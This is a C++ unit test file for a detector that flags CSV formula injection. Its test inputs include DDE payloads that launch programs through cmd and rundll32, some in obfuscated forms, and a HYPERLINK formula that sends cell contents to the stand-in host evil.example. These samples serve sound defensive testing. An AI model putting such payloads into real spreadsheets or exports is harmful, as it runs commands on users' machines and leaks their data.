#include "detect/csv.hpp"

#include <boost/test/unit_test.hpp>
#include <string>

using gird::detect::Signs;

namespace {

std::string_view seen(std::string_view text) {
  Signs signs;
  gird::detect::csv_signs(text, signs);
  return signs.all().empty() ? std::string_view() : signs.all().front().name;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(csv)

BOOST_AUTO_TEST_CASE(formulas_that_start_programs) {
  for (const std::string_view text :
       {"=cmd|'/c calc'!A0", "\t=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "@SUM(1+1)*cmd|' /C calc'!A0", "= C m D |  '/ c calc' ! A", "-2+3+cmd|' /C calc'!A0",
        "=cmd|/c!A1", "a,=cmd|'/c calc'!A0", "x\n=cmd|'/c calc'!A0", "\"=cmd|'/c calc'!A0\""}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == "csv/dde"); }
  }
}

BOOST_AUTO_TEST_CASE(formulas_that_fetch) {
  for (const std::string_view text :
       {"=HYPERLINK(\"http://evil.example?x=\"&A1)", "@webservice(A1)", "=+IMAGE(\"x\")",
        "name;=IMPORTXML(\"x\";\"y\")", "\xEF\xBC\x9DHYPERLINK(A1)"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == "csv/reach"); }
  }
}

BOOST_AUTO_TEST_CASE(formulas_that_call) {
  BOOST_TEST(seen("+SUM(1,1)") == "csv/call");
  BOOST_TEST(seen("=IF(A1>1,2,3)") == "csv/call");
  BOOST_TEST(seen("=FOO(1)") == "csv/call-other");
}

BOOST_AUTO_TEST_CASE(formulas_of_cells_and_numbers) {
  BOOST_TEST(seen("=A1+B2") == "csv/cell");
  BOOST_TEST(seen("=$A$1") == "csv/cell");
  BOOST_TEST(seen("+A1*2") == "csv/cell");
  BOOST_TEST(seen("=1+1") == "csv/sum");
}

BOOST_AUTO_TEST_CASE(what_only_starts_like_one) {
  for (const std::string_view text : {"",
                                      "=",
                                      "-5%",
                                      "=) thanks",
                                      "-x (see below)",
                                      "+49 30 123456",
                                      "+1-895-572-3636x65944",
                                      "= a | b !",
                                      "cmd|x!y",
                                      "- item (x)",
                                      "-- A. Writer",
                                      "@diff.route(\"/x\")",
                                      "@app.route('/')",
                                      "+ egrep(1) matches text",
                                      "=== a",
                                      "-A",
                                      "@user",
                                      "=a",
                                      "a = find(b)",
                                      "x == 1, y = image(z)",
                                      "+------+ | a | b!c |",
                                      "@someone hi! a|b"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == ""); }
  }
}

BOOST_AUTO_TEST_CASE(long_texts_take_linear_time) {
  for (const std::string_view piece : {"=", ",=", ",=a|", "=A1", "\"", ",=cmd|'", "@", "+"}) {
    std::string text;
    while (text.size() < (std::size_t{1} << 20U)) text += piece;
    BOOST_TEST_CONTEXT(piece) {
      seen(text);
      BOOST_TEST(true);
    }
  }
}

BOOST_AUTO_TEST_SUITE_END()
